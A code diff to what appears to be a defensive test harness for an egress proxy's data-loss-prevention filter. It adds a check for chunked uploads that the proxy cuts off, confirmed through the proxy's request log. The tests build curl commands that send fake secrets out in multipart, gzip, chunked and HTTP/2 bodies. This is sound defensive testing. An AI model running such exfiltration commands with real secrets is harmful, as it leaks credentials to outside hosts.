@@ -32,6 +32,7 @@ LEAK_MARKERS = ('"fake_internet": true', "CONNECTED", "RESOLVED", "PUSHED")
 EXPECT_MARKERS = {
     "egress": "egress: blocked",
     "dlp": "dlp: blocked",
+    "dlp-stream": "dlp: blocked",
     "unreachable": "UNREACHABLE",
     "rejected": "REJECTED",
 }
@@ -60,6 +61,9 @@ class Attack:
     what: str
     script: str
     expect: str  # a key of EXPECT_MARKERS, or "control" (must reach the upstream)
+    # For "dlp-stream": the request path whose DLP block egress must have logged when the
+    # connection was closed instead of answered.
+    log_path: str | None = None
 
 
 @dataclass(frozen=True)
@@ -228,8 +232,11 @@ def _dlp_attacks(t: Targets, s: FakeSecrets) -> list[Attack]:
             f"{CURL} {CURL_W} -F file=@/tmp/st-{kind}.txt https://{a}/upload")
         add(kind, "gzip", "a gzip body", f"printf %s {_q(body)} | gzip -c | {CURL} {CURL_W} -H 'Content-Encoding: gzip' "
             f"--data-binary @- https://{a}/gz")
-        add(kind, "chunked", "a chunked body", f"printf %s {_q(body)} | {CURL} {CURL_W} -H 'Transfer-Encoding: chunked' "
-            f"--data-binary @- http://{a}/chunked")
+        # Streamed: egress holds back what could still be a secret and closes the connection on a
+        # hit (no 403 can follow headers that have left); the judge then wants egress's log line.
+        out.append(Attack(f"dlp-{kind}-chunked", f"{kind} secret in a chunked body",
+                          f"printf %s {_q(body)} | {CURL} {CURL_W} -H 'Transfer-Encoding: chunked' "
+                          f"--data-binary @- http://{a}/chunked/{kind}", "dlp-stream", log_path=f"/chunked/{kind}"))
         add(kind, "h2-stream", "an HTTP/2 upload of unknown length", f"printf %s {_q(body)} | {CURL} {CURL_W} --http2 -T - https://{a}/h2")
     return out
 
@@ -296,8 +303,9 @@ def _status(out: str) -> str:
     return codes[-1] if codes else ""
 
 
-def judge(attack: Attack, out: str | None, *, real_secrets: dict[str, str]) -> Outcome:
-    """Blocked or LEAKED (attacks), pass or FAIL (controls), from what the attack printed."""
+def judge(attack: Attack, out: str | None, *, real_secrets: dict[str, str], log: list[dict] | None = None) -> Outcome:
+    """Blocked or LEAKED (attacks), pass or FAIL (controls), from what the attack printed (and,
+    for a streamed body whose connection egress closed, from egress's requests.jsonl ``log``)."""
     if out is None:
         return Outcome(attack, "UNCLEAR" if attack.expect != "control" else "FAIL", "no output: the attack did not finish")
     for name, value in real_secrets.items():
@@ -318,13 +326,34 @@ def judge(attack: Attack, out: str | None, *, real_secrets: dict[str, str]) -> O
     marker = EXPECT_MARKERS[attack.expect]
     if marker in out:
         return Outcome(attack, "blocked", f"HTTP {code}" if code else marker)
+    if attack.expect == "dlp-stream" and code == "000":
+        logged = [e for e in log or [] if e.get("decision") == "block" and e.get("dlp") and e.get("path") == attack.log_path]
+        if logged:
+            rules = ",".join(f["rule"] for f in logged[-1]["dlp"].get("findings", [])) or "cap"
+            return Outcome(attack, "blocked", f"connection closed mid-body; egress logged dlp {rules}")
+        return Outcome(attack, "UNCLEAR", "connection closed, but egress logged no DLP block for it")
     tail = " ".join(out.strip().splitlines()[-2:])[:160]
     return Outcome(attack, "UNCLEAR", f"expected {marker!r}; saw: {tail or 'nothing'}")
 
 
-def judge_all(attacks: list[Attack], output: str, *, real_secrets: dict[str, str]) -> list[Outcome]:
+def judge_all(attacks: list[Attack], output: str, *, real_secrets: dict[str, str], log: list[dict] | None = None) -> list[Outcome]:
     found = split_output(output)
-    return [judge(a, found.get(a.id), real_secrets=real_secrets) for a in attacks]
+    return [judge(a, found.get(a.id), real_secrets=real_secrets, log=log) for a in attacks]
+
+
+def read_log(path) -> list[dict]:
+    """egress's requests.jsonl (and its rotated predecessors are not needed: a run is seconds)."""
+    entries = []
+    try:
+        with open(path, encoding="utf-8") as fh:
+            for line in fh:
+                try:
+                    entries.append(json.loads(line))
+                except ValueError:
+                    continue
+    except OSError:
+        pass
+    return entries
 
 
 def report(outcomes: list[Outcome]) -> str:
